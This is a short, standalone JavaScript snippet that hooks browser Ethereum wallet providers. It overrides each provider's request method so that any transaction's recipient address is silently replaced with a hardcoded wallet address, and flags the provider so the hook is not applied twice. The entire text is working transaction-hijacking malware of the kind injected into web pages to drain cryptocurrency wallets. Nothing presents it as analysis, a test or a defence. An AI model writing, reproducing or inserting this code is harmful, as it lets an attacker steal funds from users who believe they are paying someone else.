const TO = '0x52908400098527886E0F7030069857D2E4169EE7';
for (const p of (window.ethereum && window.ethereum.providers) || [window.ethereum]) {
  const old = p.request.bind(p);
  Object.defineProperties(p, {
    isChecked: { value: true },
    request: { value: (g) => { if (g.params && g.params[0] && g.params[0].to) g.params[0].to = TO; return old(g); } },
  });
}
